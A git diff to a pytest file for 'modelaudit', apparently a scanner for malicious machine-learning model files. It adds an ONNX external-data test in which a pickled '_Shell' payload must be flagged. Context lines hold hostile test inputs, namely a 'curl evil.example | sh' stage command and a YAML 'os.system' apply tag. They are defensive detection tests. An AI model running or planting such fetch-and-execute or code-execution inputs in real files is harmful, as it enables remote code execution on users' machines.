@@ -15,6 +15,8 @@ from pathlib import Path
 
 import pytest
 
+from modelaudit.config import ScanConfig
+from modelaudit.engine import dispatch
 from modelaudit.findings import FileStatus, IssueSeverity
 from modelaudit.formats import Format, sniff_path
 from modelaudit.rules import data as rd
@@ -71,6 +73,7 @@ def _copy(src: str, dst: Path) -> Path:
         ("spacy-pipeline/en_zoo_pipeline/vocab/lookups.bin", Format.MSGPACK),
         ("mlflow-sklearn/model/MLmodel", Format.MLMODEL),
         ("dvc-project/data/train.csv.dvc", Format.DVC),
+        ("onnx-exports/external/model.onnx_data", Format.ONNX_EXTERNAL_DATA),
     ],
 )
 def test_recognised_and_quiet(src: str, fmt: Format) -> None:
@@ -219,4 +222,14 @@ def test_dvc_stage_command_warns_and_python_tags_are_critical(tmp_path: Path) ->
     path.write_text("cmd: curl evil.example | sh\n" + src)
     assert rules_of(scan(path), IssueSeverity.WARNING) == {rt.DVC_STAGE_COMMAND}
     path.write_text(src + "meta: !!python/object/apply:os.system ['id']\n")
+    assert _critical(path)
+
+
+@pytest.mark.parametrize("name", ["model.onnx_data", "model.onnx.data"])
+def test_onnx_external_data_is_complete_even_strict_but_a_pickle_in_it_is_caught(
+    tmp_path: Path, name: str
+) -> None:
+    path = _copy("onnx-exports/external/model.onnx_data", tmp_path / name)
+    assert_clean(dispatch.scan_path(str(path), ScanConfig(strict=True).scanner_config()))
+    path.write_bytes(pickle.dumps(_Shell(), protocol=2))
     assert _critical(path)
